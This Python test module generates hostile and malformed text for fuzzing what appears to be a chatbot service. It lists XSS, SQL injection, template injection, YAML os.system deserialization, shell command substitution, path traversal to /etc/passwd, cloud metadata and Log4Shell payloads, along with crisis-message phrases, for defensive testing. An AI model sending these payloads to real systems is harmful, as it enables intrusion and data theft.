"""Hostile text: what people type by mistake, paste without looking, and send on purpose. Every test that wants such text takes it from here."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import TypeVar

from hypothesis import strategies as st

T = TypeVar("T")

# In every hostile text: it may come back only where a visitor's own words belong, and never in a log.
MARK = "zyxqmark"

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"'><svg/onload=alert(1)>", "</textarea><script>alert(1)</script>", "<!--", "-->", "]]>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;b&gt;", "&#60;b&#62;",
    "<a href=jAvAsCrIpT:alert(1)>x</a>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "</title><script>alert(1)</script>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>", "<style>*{display:none}</style>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`", "\u2028alert(1)\u2029", "<\u0000script>alert(1)</script>",
)  # fmt: skip
COMMANDS = (
    "/restart", "/session_start", "/own_thoughts", '/inform_country{"country": "FI"}', '/greet{"a": [', "/back", "EXTERNAL: x", "@step 1", "utter_greet",
    "action_restart", "inform_country:FI", "change_language:xx", "start_over", "' OR 1=1 --", "'; DROP TABLE totals; --", "\" UNION SELECT 1 --",
    "!!python/object/apply:os.system [id]", "!!binary aGVsbG8=", "&a [*a, *a]", "<<: *a", "{emergency}", "{0.__class__.__mro__}", "{{7*7}}", "{% raw %}", "%s%s%n",
    "%(name)s", "$(id)", "`id`", "| id", "../../etc/passwd", "file:///etc/passwd", "\\\\host\\share", "http://169.254.169.254/", "${jndi:ldap://x}", "\r\nSet-Cookie: a=b",
    "__proto__", "constructor", "null", "undefined", "NaN", "-1", "1e400", "0x7fffffff", "99999999999999999999", "²", "①", "٣", "௧", "½", "𝟙", "1" * 400, "true", "[]", "{}",
)  # fmt: skip
BROKEN = (
    "\x00", "\x1b[2J", "\x7f", "\x85", "\ud800", "\udfff", "\ud83d", "\ufffe", "\uffff", "\U0010ffff", "\ufeff", "\u200b", "\u200d", "\u2060", "\u00ad", "\u034f",
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "\u061c", "\u3164", "\u115f", "\U000e0041", "\ufe0f", "\u0345" * 40, "a" + "\u0300\u0327\u0345" * 60, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺ" * 8, "ß" * 50, "İ", "ı", "ǅ", "ﬁ", "Å", "\u1e9e", "가각힣", "ᄀ" * 30, "ก็็็็็็็", "ༀ" * 20, "مرحبا", "שלום", "привет", "ﻻ", "\n" * 20, "\t", "\r", "\x0b", "\u2028", " " * 50,
)  # fmt: skip
# What a visitor in need writes: the hostile parts stand beside it, and it must still be understood.
MEANT = (
    "i want to die", "haluan kuolla", "ich will sterben", "je veux mourir", "quiero morir", "chcę umrzeć", "хочу умереть", "jag vill dö", "ik wil dood", "quero morrer",
    "k m s", "s.u.i.c.i.d.e", "su1c1de", "I'm 15", "from Finland", "in deutsch bitte", "i cannot stop looking at images", "he touched my daughter", "yes", "no", "1", "thank you",
)  # fmt: skip
# What regular expressions stumble over: long runs of what almost matches.
RUNS = ("a", "a ", "a.", "0", "@$", "a'", "..", "?", "! ", "-", " - ", "(", "[", "|", "é", "1a", "\u0301")
SPOILERS = ("\n", ": ", "- ", "null", "[", "{", "!!python/name:os.system", "\t", "*a", "&a ", "1", "2026-13-45", '"', "'", "\x00", "no", "~")
# Where code points that differ in kind lie: controls, letters, marks, other scripts, surrogates, private use, signs beyond the first plane, tags.
_BLOCKS = ((0, 0x20), (0x20, 0x7F), (0x7F, 0x250), (0x300, 0x370), (0x370, 0x700), (0x900, 0x1200), (0x2000, 0x2070), (0x3000, 0xD7FF), (0xD800, 0xE000),
           (0xE000, 0xE100), (0xFB00, 0x10000), (0x1F300, 0x1FB00), (0xE0000, 0xE0100), (0, 0x110000))  # fmt: skip


def letters(random: Random, most: int) -> str:
    """Some code points, none forbidden."""
    low, high = random.choice(_BLOCKS)
    return "".join(chr(random.randrange(low, high)) for _ in range(random.randint(0, most)))


def _part(random: Random) -> str:
    kind = random.randrange(8)
    if kind == 0:
        return letters(random, 20)
    if kind == 1:
        return random.choice(RUNS) * random.choice((2, 5, 17, 60, 400))
    if kind == 2:
        return " "
    return random.choice((MARKUP, COMMANDS, BROKEN, MEANT, MEANT)[kind - 3])


def text(random: Random, parts: int = 5) -> str:
    """Hostile text, MARK somewhere in most of it: one that stands alone counts too."""
    if random.random() < 0.15:
        return _part(random)
    found = [_part(random) for _ in range(random.randint(0, parts))]
    return MARK.join((" ".join(found[:2]), "".join(found[2:])))


def long_text(random: Random) -> str:
    """Up to a megabyte of a hostile text, again and again; seldom the most."""
    piece, size = text(random, 3) or MARK, random.choice((1_000, 1_001, 1_999, 20_000, 70_000) if random.random() < 0.98 else (1_000_000,))
    return (piece * (size // len(piece) + 1))[:size]


def json_value(random: Random, depth: int = 3) -> object:
    """Any JSON, with hostile texts in it."""
    kind = random.randrange(8 if depth else 6)
    if kind < 2:
        return text(random, 2)
    if kind < 6:
        return random.choice((None, True, False, 0, -1, 2**70, 1.5, float("nan"), float("inf"), ""))
    inner = [json_value(random, depth - 1) for _ in range(random.randint(0, 3))]
    return inner if kind == 6 else {letters(random, 5): value for value in inner}


def mutated(random: Random, original: bytes) -> bytes:
    """A file that was cut off, or in which something was overwritten, doubled, taken out or put in."""
    start, length = random.randrange(len(original)), random.randint(1, 200)
    junk = (text(random, 1) if random.random() < 0.5 else random.choice(SPOILERS)).encode("utf-8", "surrogatepass")
    return (
        original[:start],
        original[:start] + junk + original[start + len(junk) :],
        original[: start + length] + original[start:],
        original[:start] + original[start + length :],
        original[:start] + junk + original[start:],
    )[random.randrange(5)]


def from_random(make: Callable[[Random], T]) -> st.SearchStrategy[T]:
    """The same inputs as a strategy of hypothesis, which makes what it finds smaller."""
    return st.randoms(use_true_random=False).map(make)
